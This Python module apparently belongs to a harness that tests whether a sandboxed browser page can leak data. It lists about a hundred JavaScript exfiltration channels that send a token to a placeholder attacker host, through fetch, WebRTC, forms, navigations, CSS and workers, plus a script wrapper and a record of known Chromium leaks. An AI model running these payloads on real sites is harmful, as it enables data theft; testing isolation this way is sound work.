# ruff: noqa: E501  the code of a channel stands on one line, as it is run
"""Ways out of a browser realm, as code that an attacker would run there.

In the code, T is the token to smuggle out, H a host of the attacker whose name holds it, K an address of the attacker,
S the origin of the site itself. A channel returns what it learnt, or throws; whether anything left, the wire tells.
"""

from dataclasses import dataclass
from typing import Literal

Scope = Literal["any", "document"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Channel:
    """One way out; scope says whether workers have it too."""

    name: str
    scope: Scope
    code: str


_ADD = "const add = (tag, values) => { const e = document.createElement(tag); for (const [k, v] of Object.entries(values)) { if (k in e) e[k] = v; else e.setAttribute(k, v); } (document.body ?? document.documentElement).append(e); return e; };"
PRELUDE = f"""
try {{ trustedTypes.createPolicy("default", {{ createHTML: (t) => t, createScript: (t) => t, createScriptURL: (t) => t }}); }} catch {{}}
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const blob = (text, type) => URL.createObjectURL(new Blob([text], {{ type }}));
{_ADD}
const candidate = async (config, answer) => {{
  const peer = new RTCPeerConnection(config);
  peer.createDataChannel("d");
  await peer.setLocalDescription(await peer.createOffer());
  if (answer) await peer.setRemoteDescription({{ type: "answer", sdp: answer(peer.localDescription.sdp) }});
  await pause(1500);
  return peer.iceGatheringState;
}};
"""
"""What an attacker brings along; the first line takes the name that Trusted Types leave to whoever comes first."""

_BOTH: dict[str, str] = {
    "fetch": "await fetch(`http://${H}/f`)",
    "fetch-nocors-keepalive": "await fetch(`http://${H}/f`, { mode: 'no-cors', keepalive: true, method: 'POST', body: T })",
    "fetch-literal-address": "await fetch(`http://${K}/${T}`, { mode: 'no-cors' })",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', `http://${H}/x`); x.send(); await pause(300)",
    "xhr-synchronous": "const x = new XMLHttpRequest(); x.open('GET', `http://${H}/x`, false); x.send()",
    "websocket": "new WebSocket(`ws://${H}/w`)",
    "websocket-stream": "await new WebSocketStream(`ws://${H}/w`).opened",
    "eventsource": "new EventSource(`http://${H}/e`)",
    "webtransport": "await new WebTransport(`https://${H}:4433/t`).ready",
    "dynamic-import": "await import(`http://${H}/i.js`)",
    "self-fetch": "await fetch(`${S}/take?${T}`)",
    "self-fetch-path": "await fetch(`${S}/${T}`, { method: 'POST', body: T })",
    "blob-subworker-fetch": "new Worker(blob(`fetch('http://${H}/b')`, 'text/javascript'))",
    "data-subworker-fetch": "new Worker(`data:text/javascript,fetch('http://${H}/d')`)",
    "module-subworker-import": "new Worker(blob(`import 'http://${H}/m.js'`, 'text/javascript'), { type: 'module' })",
    "net-subworker": "new Worker(`${S}/worker.js?${T}`)",
    "importscripts": "if (typeof importScripts !== 'function') return 'absent'; importScripts(`http://${H}/s.js`)",
    "fontface-api": "await new FontFace('f', `url(http://${H}/f.woff2)`).load()",
    "wasm-streaming": "await WebAssembly.compileStreaming(fetch(`http://${H}/w.wasm`))",
    "cache-add": "await (await caches.open('c')).add(`http://${H}/c`)",
    "background-fetch-later": "fetchLater(`http://${H}/l`, { activateAfter: 0 })",
}
_DOCUMENT: dict[str, str] = {
    "sendbeacon": "return navigator.sendBeacon(`http://${H}/b`, T)",
    "img": "new Image().src = `http://${H}/i`",
    "picture-source": "const p = add('picture', {}); const s = document.createElement('source'); s.srcset = `http://${H}/p`; p.append(s, new Image())",
    "svg-image": "const NS = 'http://www.w3.org/2000/svg'; const v = document.createElementNS(NS, 'svg'); const i = document.createElementNS(NS, 'image'); i.setAttribute('href', `http://${H}/v`); i.setAttribute('width', '5'); i.setAttribute('height', '5'); v.append(i); document.body.append(v)",
    "svg-use-filter": "const NS = 'http://www.w3.org/2000/svg'; const v = document.createElementNS(NS, 'svg'); for (const n of ['use', 'feImage']) { const e = document.createElementNS(NS, n); e.setAttribute('href', `http://${H}/${n}#a`); v.append(e); } document.body.append(v)",
    "svg-script": "const NS = 'http://www.w3.org/2000/svg'; const v = document.createElementNS(NS, 'svg'); const s = document.createElementNS(NS, 'script'); s.setAttribute('href', `http://${H}/s.js`); v.append(s); document.body.append(v)",
    "video-poster": "add('video', { poster: `http://${H}/p`, src: `http://${H}/v`, preload: 'auto' })",
    "audio-track": "add('audio', { src: `http://${H}/a`, preload: 'auto' }); const v = add('video', {}); const t = document.createElement('track'); t.default = true; t.src = `http://${H}/t`; v.append(t); t.track.mode = 'showing'",
    "object-embed": "add('object', { type: 'text/html', data: `http://${H}/o` }); add('embed', { type: 'text/html', src: `http://${H}/e` })",
    "css-inline-bg": "add('div', { textContent: '.' }).style.backgroundImage = `url(http://${H}/c)`",
    "css-import": "const s = document.createElement('style'); s.textContent = `@import 'http://${H}/c.css';`; document.head.append(s)",
    "css-adopted": "const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(http://${H}/b); cursor: url(http://${H}/k), auto } @font-face { font-family: q; src: url(http://${H}/f) } * { font-family: q }`); document.adoptedStyleSheets = [s]; document.body.append('text')",
    "css-image-set": "add('div', { textContent: '.' }).style.cssText = `background: image-set('http://${H}/s' 1x); list-style: url(http://${H}/l); content: url(http://${H}/c); mask: url(http://${H}/m); shape-outside: url(http://${H}/o)`",
    "link-stylesheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = `http://${H}/l.css`; document.head.append(l)",
    "link-prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = `http://${H}/p`; document.head.append(l)",
    "link-preload": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = `http://${H}/p`; document.head.append(l)",
    "link-modulepreload": "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = `http://${H}/m.js`; document.head.append(l)",
    "link-preconnect": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = `http://${H}/`; document.head.append(l)",
    "link-dns-prefetch": "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = `http://${H}/`; document.head.append(l)",
    "a-implicit-dnsprefetch": "const m = document.createElement('meta'); m.httpEquiv = 'x-dns-prefetch-control'; m.content = 'on'; document.head.append(m); add('a', { href: `http://${H}/`, textContent: 'a' })",
    "link-icon": "const l = document.createElement('link'); l.rel = 'icon'; l.href = `http://${H}/i`; document.head.append(l)",
    "link-manifest": "const l = document.createElement('link'); l.rel = 'manifest'; l.href = `http://${H}/m`; document.head.append(l)",
    "link-misc": "for (const rel of ['prerender', 'next', 'search', 'compression-dictionary', 'expect', 'payment', 'pingback', 'apple-touch-icon', 'alternate stylesheet']) { const l = document.createElement('link'); l.rel = rel; l.href = `http://${H}/${rel.slice(0, 3)}`; document.head.append(l); }",
    "script-src": "const s = document.createElement('script'); s.src = `http://${H}/s.js`; document.head.append(s)",
    "script-inline": "const s = document.createElement('script'); s.textContent = `fetch('http://${H}/n')`; document.head.append(s)",
    "eval": "(0, eval)(`fetch('http://${H}/v')`)",
    "handler-attribute": "add('img', { src: 'data:,' }).setAttribute('onerror', `fetch('http://${H}/h')`); await pause(300)",
    "inner-html": "document.body.insertAdjacentHTML('beforeend', `<img src=\"http://${H}/h\">`)",
    "speculationrules": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [`http://${H}/r`], eagerness: 'immediate' }], prerender: [{ urls: [`${S}/take?${T}`], eagerness: 'immediate' }] }); document.head.append(s)",
    "speculationrules-https": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [`https://${H}/r`], eagerness: 'immediate' }] }); document.head.append(s)",
    "importmap+import": "const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { q: `http://${H}/q.js` } }); document.head.append(s); await import('q')",
    "webrtc-stun": "return await candidate({ iceServers: [{ urls: `stun:${H}:3478` }] })",
    "webrtc-turn-user": "return await candidate({ iceServers: [{ urls: `turn:${K}:3478?transport=udp`, username: T, credential: 'c' }] })",
    "webrtc-turn-tcp": "return await candidate({ iceServers: [{ urls: `turns:${H}:443?transport=tcp`, username: T, credential: 'c' }] })",
    "webrtc-host-candidate": "return await candidate({}, (sdp) => sdp.replace(/a=setup:\\w+/, 'a=setup:active').replace(/a=ice-ufrag:.*/, `a=ice-ufrag:${T}`).replace(/a=candidate.*\\r\\n/g, '') + `a=candidate:1 1 udp 2122260223 ${K} 3478 typ host\\r\\n`)",
    "form-get": "const f = add('form', { action: `http://${H}/f`, method: 'POST' }); const i = document.createElement('input'); i.name = 'q'; i.value = T; f.append(i); f.submit()",
    "form-blank": "add('form', { action: `http://${H}/f`, target: '_blank' }).submit()",
    "form-into-frame": "add('iframe', { name: 'into' }); add('form', { action: `http://${H}/f`, target: 'into' }).submit()",
    "location": "location.href = `http://${H}/n`",
    "self-location": "location.href = `${S}/take?${T}`",
    "top-location": "top.location.href = `http://${H}/t`",
    "parent-location": "parent.location.replace(`http://${H}/p`)",
    "window-open": "return !!open(`http://${H}/o`)",
    "window-open-noopener": "open(`http://${H}/o`, '_blank', 'noopener')",
    "navigation-api": "await navigation.navigate(`http://${H}/n`).committed",
    "a-click": "add('a', { href: `http://${H}/a` }).click()",
    "a-blank-click": "add('a', { href: `http://${H}/a`, target: '_blank' }).click()",
    "a-ping": "add('a', { href: '#x', ping: `http://${H}/p` }).click()",
    "a-download": "add('a', { href: `http://${H}/d`, download: 'd.csv' }).click()",
    "self-a-download": "add('a', { href: `${S}/take?${T}`, download: 'd.csv' }).click()",
    "meta-refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=http://${H}/m`; document.head.append(m)",
    "iframe-src": "add('iframe', { src: `http://${H}/i` })",
    "iframe-credentialless": "add('iframe', { credentialless: true, src: `http://${H}/i` })",
    "iframe-aboutblank-fetch": "await add('iframe', {}).contentWindow.fetch(`http://${H}/b`)",
    "iframe-aboutblank-webrtc": "const R = add('iframe', {}).contentWindow.RTCPeerConnection; const p = new R({ iceServers: [{ urls: `stun:${H}:3478` }] }); p.createDataChannel('d'); await p.setLocalDescription(await p.createOffer()); await pause(1500)",
    "iframe-srcdoc-img": "add('iframe', { srcdoc: `<img src=\"http://${H}/i\"><link rel=dns-prefetch href=\"http://${H}/\">` })",
    "iframe-data-fetch": "add('iframe', { src: `data:text/html,<img src='http://${H}/i'>` })",
    "iframe-blobhtml": "add('iframe', { src: blob(`<img src='http://${H}/i'>`, 'text/html') })",
    "iframe-javascript": "add('iframe', { src: `javascript:fetch('http://${H}/j')` })",
    "location-blobhtml": "location.href = blob(`<img src='http://${H}/l'>`, 'text/html')",
    "input-image/srcset/background": "add('input', { type: 'image', src: `http://${H}/i` }); add('img', { srcset: `http://${H}/s 1x` }); document.body.setAttribute('background', `http://${H}/b`)",
    "attributionsrc": "add('img', { attributionsrc: `http://${H}/a`, src: `http://${H}/i` })",
    "paymentrequest": "const p = new PaymentRequest([{ supportedMethods: `https://${H}/p` }], { total: { label: 'l', amount: { currency: 'EUR', value: '1' } } }); await p.canMakePayment(); await Promise.race([p.show(), pause(1000)])",
    "fedcm": "await Promise.race([navigator.credentials.get({ identity: { providers: [{ configURL: `https://${H}/c.json`, clientId: 'c' }] } }), pause(1000)])",
    "webauthn-ror": "await Promise.race([navigator.credentials.create({ publicKey: { rp: { id: H, name: 'r' }, user: { id: new Uint8Array(8), name: 'u', displayName: 'u' }, challenge: new Uint8Array(16), pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } }), pause(1000)])",
    "sharedworker-net": "new SharedWorker(`${S}/worker.js?${T}`)",
    "sharedworker-blob": "new SharedWorker(blob(`fetch('http://${H}/s')`, 'text/javascript'))",
    "serviceworker-register": "await navigator.serviceWorker.register(`${S}/take.js?${T}`)",
    "worklet-module": "await CSS.paintWorklet.addModule(`http://${H}/w.js`)",
    "audio-worklet-module": "await new AudioContext().audioWorklet.addModule(`http://${H}/w.js`)",
    "csp-report-uri-meta": "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = `img-src 'none'; report-uri http://${H}/r`; document.head.append(m); new Image().src = 'http://none.leak.test/'",
    "mediasession-art": "navigator.mediaSession.metadata = new MediaMetadata({ title: T, artwork: [{ src: `http://${H}/a.png`, sizes: '96x96', type: 'image/png' }] })",
    "web-install": "await Promise.race([navigator.install(`http://${H}/i`), pause(1000)])",
    "notification-icon": "new Notification(T, { icon: `http://${H}/n` })",
    "fencedframe": "const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(`http://${H}/f`); document.body.append(f)",
    "protocol-handler": "navigator.registerProtocolHandler('web+leak', `http://${H}/%s`)",
    "storage-access": "await Promise.race([document.requestStorageAccess(), pause(800)]); document.cookie = `c=${T}`; await fetch(`${S}/take`)",
    "dynamic-meta-loosen": "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = \"default-src * 'unsafe-inline'\"; document.head.append(m); await fetch(`http://${H}/l`)",
    "xslt": "add('iframe', { src: blob(`<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://${H}/x.xsl'?><a/>`, 'text/xml') })",
    "xml-base-document": "const d = new DOMParser().parseFromString(`<base href='http://${H}/'><img src='i'>`, 'text/html'); document.body.append(document.adoptNode(d.querySelector('img')))",
    "base-element": "const b = document.createElement('base'); b.href = `http://${H}/`; document.head.append(b); const i = new Image(); i.src = 'i'; document.body.append(i)",
    "pdf-blob": "add('embed', { type: 'application/pdf', src: blob(`%PDF-1.4\\n1 0 obj<</OpenAction<</S/URI/URI(http://${H}/p)>>>>endobj`, 'application/pdf') })",
    "execcommand": "document.designMode = 'on'; document.execCommand('insertImage', false, `http://${H}/e`)",
    "custom-element-template": "const t = document.createElement('template'); t.innerHTML = `<img src=\"http://${H}/t\">`; document.body.append(t.content.cloneNode(true))",
    "drag-image": "const i = new Image(); i.src = `http://${H}/d`; new DataTransfer().setDragImage(i, 0, 0)",
    "history-then-reload": "history.pushState({}, '', `?${T}`); location.reload()",
    "parent-postmessage": "parent.postMessage({ leak: T }, '*'); top.postMessage({ leak: T }, '*'); await pause(200)",
    "window-name-navigation": "name = T; location.href = `http://${H}/w`",
}  # fmt: skip

CHANNELS = (
    *(Channel(name=name, scope="any", code=code) for name, code in _BOTH.items()),
    *(Channel(name=name, scope="document", code=code) for name, code in _DOCUMENT.items()),
)

ALONE = frozenset(
    {
        "location", "self-location", "top-location", "parent-location", "navigation-api", "a-click", "a-blank-click",
        "a-ping", "a-download", "self-a-download", "meta-refresh", "location-blobhtml", "form-get", "form-blank",
        "form-into-frame", "history-then-reload", "window-name-navigation", "window-open", "window-open-noopener",
        "csp-report-uri-meta", "dynamic-meta-loosen", "base-element", "storage-access", "execcommand", "css-adopted",
        "xhr-synchronous", "importscripts", "paymentrequest", "fedcm", "webauthn-ror", "importmap+import",
        "serviceworker-register",
    }
)  # fmt: skip
"""Channels that leave or change their document, or wait for each other: they get a page of their own."""

_NAME_ONLY, _DATAGRAM, _CONNECTION = frozenset({"DNS"}), frozenset({"DNS", "UDP"}), frozenset({"DNS", "UDP", "TCP"})
VAULT_RESIDUAL = {
    "link-preconnect": _NAME_ONLY,
    "link-dns-prefetch": _NAME_ONLY,
    "location": _NAME_ONLY,
    "window-name-navigation": _NAME_ONLY,
    "navigation-api": _NAME_ONLY,
    "a-click": _NAME_ONLY,
    "a-download": _NAME_ONLY,
    "meta-refresh": _NAME_ONLY,
    "iframe-src": _NAME_ONLY,
    "iframe-credentialless": _NAME_ONLY,
    "iframe-srcdoc-img": _NAME_ONLY,
    "webrtc-stun": _DATAGRAM,
    "webrtc-turn-user": _DATAGRAM,
    "webrtc-host-candidate": _DATAGRAM,
    "webrtc-turn-tcp": _CONNECTION,
}
"""What is known to leave the vault's document in Chromium on a host without headers, and how. Browsers look up names
for navigations that a policy then stops, and no policy of theirs governs WebRTC.
"""
VAULT_RESIDUAL_ALLOWLIST = {"webrtc-host-candidate": _DATAGRAM}
"""What is known to leave it where Connection-Allowlist is in force."""


def write_attack(channel: Channel, *, token: str, host: str, sink: str, site: str, report: str) -> str:
    """Return a script that runs the channel once and says so by calling `report` with one line of text."""
    names = {"T": token, "H": host, "K": sink, "S": site}
    constants = "".join(f"const {name} = {value!r};" for name, value in names.items())
    return (
        f";(async () => {{ {constants} const say = (text) => {report}(`ran {token}: ${{text}}`);"
        f"{PRELUDE} say(`started ${{self.crossOriginIsolated}}`); await pause(100); try {{ say('returned ' + await (async () => {{ {channel.code} }})()); }}"
        f" catch (error) {{ say('threw ' + error?.name); }} }})();\n"
    )
